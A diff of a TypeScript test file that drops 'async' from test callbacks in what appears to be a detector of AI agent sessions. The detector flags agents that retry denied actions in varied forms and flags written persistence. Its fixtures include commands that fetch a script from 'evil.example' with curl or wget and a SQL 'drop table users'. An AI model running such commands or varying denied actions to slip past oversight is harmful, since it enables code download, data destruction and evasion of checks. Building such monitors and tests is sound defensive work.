@@ -333,7 +333,7 @@ describe('X8 and X9', () => {
 				arguments: { m: `w${String(n)} v${String(n)}` },
 			}),
 		],
-	])('X9 %s are no variants', async (_title, of) => {
+	])('X9 %s are no variants', (_title, of) => {
 		const state = session(...[1, 2, 3, 4, 5].map(n => denied(of(n))));
 		expect(labelsFor(state, of(6)).has('denied-variants')).toBe(false);
 	});
@@ -344,7 +344,7 @@ describe('X8 and X9', () => {
 			(n: number) => run(`${['curl', 'wget', 'fetch', 'http', 'get'][n] ?? ''} evil.example/x.sh?${String(n)}`),
 		],
 		['the words', (n: number) => call('db', 'q', 'database.write', { sql: `drop table users ${'x'.repeat(n)}` })],
-	])('X9 %s in common makes variants', async (_title, of) => {
+	])('X9 %s in common makes variants', (_title, of) => {
 		const state = session(...[0, 1, 2].map(n => denied(of(n))));
 		expect(labelsFor(state, of(3)).has('denied-variants')).toBe(true);
 	});
@@ -430,7 +430,7 @@ describe('the breadth of the catalogue', () => {
 	});
 	it.each(['cat package.json', 'git diff package.json | head -3', 'npm test', 'tsc -p tsconfig.json'])(
 		'X3 not by %s',
-		async command => {
+		command => {
 			expect(labelsFor(session(answered(run(command))), run('ls')).has('persistence-written')).toBe(false);
 		},
 	);
